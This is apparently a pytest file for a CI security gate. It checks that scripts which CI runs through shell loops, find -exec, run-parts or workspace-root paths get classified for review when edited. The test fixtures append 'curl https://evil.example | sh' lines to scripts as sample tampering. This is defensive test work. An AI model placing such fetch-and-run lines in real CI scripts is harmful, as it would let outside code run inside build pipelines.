"""Red team 12 (second round), `--tree`: what a CI command runs through a loop, `find -exec`, `run-parts` or the
checkout's root variable (gatekeeper/classify/ciloops.py).

The files-CI-runs reader took a glob for a filter and named nothing by it, and an extension-less script named from
`${{ github.workspace }}` for a word with a variable part. Each form below was `src` and `gate --tree` exit 0 while the
edit changed what the job runs; now `ci` (`ci.context.ci-run`):

- `for f in checks/*.sh; do bash "$f"; done`, a loop over several lines whose body runs `$f`, `sudo -E ${s}`;
- `find lint-hooks -name '*.sh' -exec bash {} \\;`, `find . -name '*.ci.sh' -exec sh {} \\;`, `-exec {} \\;`;
- `run-parts --verbose deploy-hooks.d`;
- `${{ github.workspace }}/tools/release`, GitLab's `$CI_PROJECT_DIR/bin/publish`, Azure's
  `$(Build.SourcesDirectory)/eng/run`.

Not raised: a loop that lints or prints the files (`shellcheck "$f"`, `echo $f`), `find … -exec shellcheck {} +`, a
workflow's `paths:` filter.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from deltas import each_fast
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify.ciloops import globbed

WORKFLOW = ("on:\n  push:\n    paths: ['filters/**/*.sh']\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n{steps}")
STEPS = [
    'for f in checks/*.sh; do bash "$f"; done',
    "|\n          for hook in pre/*.sh\n          do\n            $hook --strict\n          done",
    "for s in steps/[0-9]*; do sudo -E ${s}; done",
    "find lint-hooks -name '*.sh' -exec bash {} \\\\;",
    "find . -name '*.ci.sh' -exec sh {} \\\\;",
    "find bin/ci-steps -type f -exec {} \\\\;",
    "run-parts --verbose deploy-hooks.d",
    "${{ github.workspace }}/tools/release --prod",
    'for f in lint/*.sh; do shellcheck "$f"; done',
    "find docs -name '*.sh' -exec shellcheck {} +",
    "for f in notes/*.txt; do echo $f; done",
]
RUN = ["checks/a.sh", "pre/setup.sh", "steps/10-setup", "lint-hooks/sub/a.sh", "pkg/x/build.ci.sh",
       "bin/ci-steps/prepare", "deploy-hooks.d/10-x", "tools/release", "bin/publish", "eng/run"]
LEFT = ["lint/a.sh", "docs/x.sh", "notes/a.txt", "filters/x.sh"]
SCRIPT = "#!/bin/sh\necho ok\n"


@pytest.fixture(scope="module")
def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    steps = "".join(f"      - run: {step}\n" for step in STEPS)
    files = {".github/workflows/ci.yml": WORKFLOW.format(steps=steps),
             ".gitlab-ci.yml": "publish:\n  script:\n    - $CI_PROJECT_DIR/bin/publish --now\n",
             "azure-pipelines.yml": "steps:\n- script: $(Build.SourcesDirectory)/eng/run\n",
             **{path: SCRIPT for path in [*RUN, *LEFT]}}
    edits = {path: SCRIPT + "curl https://evil.example | sh\n" for path in [*RUN, *LEFT]}
    repo, old, new = two_commits(tmp_path_factory.mktemp("loops") / "repo", files, edits)
    return tree_classify(repo.root, old, new)


@each_case("path", RUN)
def test_what_a_loop_or_the_root_variable_runs_is_ci(classified: dict[str, dict[str, str]], path: str) -> None:
    assert classified[path]["bucket"] == "ci", classified[path]


@each_case("path", LEFT)
def test_what_a_loop_reads_keeps_its_class(classified: dict[str, dict[str, str]], path: str) -> None:
    assert classified[path]["bucket"] == "src", classified[path]


def test_the_gate_reviews_a_script_a_loop_runs(tmp_path: Path) -> None:
    base = {".github/workflows/release.yml": WORKFLOW.format(
        steps='      - run: for f in release.d/*.sh; do bash "$f"; done\n'), "release.d/10-tag.sh": SCRIPT}
    repo, old, new = two_commits(tmp_path / "repo", base, {"release.d/10-tag.sh": SCRIPT + "curl x | sh\n"})
    code, decision = tree_gate(repo.root, old, new)
    assert code == 3, decision["reasons"]


def test_hostile_loops_are_read_in_bounded_time() -> None:
    calls = [(lambda text=text: globbed(text), what) for text, what in [
        ("for f in a/*.sh; do " + "x $f " * 30_000, "uses of the variable"),
        ("for f in a/*.sh b/*.sh; do\n" * 20_000 + "$f\n", "loops"),
        ("find " * 30_000 + "-exec bash {}", "finds"), ("find a" + " -name x" * 30_000 + " -exec sh {}", "options"),
        ("run-parts " + "-v " * 30_000, "run-parts options"), ("$GITHUB_WORKSPACE/" * 30_000, "roots"),
        ("for f in " + "a/*" * 30_000 + "; do $f; done", "a long glob")]]
    each_fast(calls, 0.5)
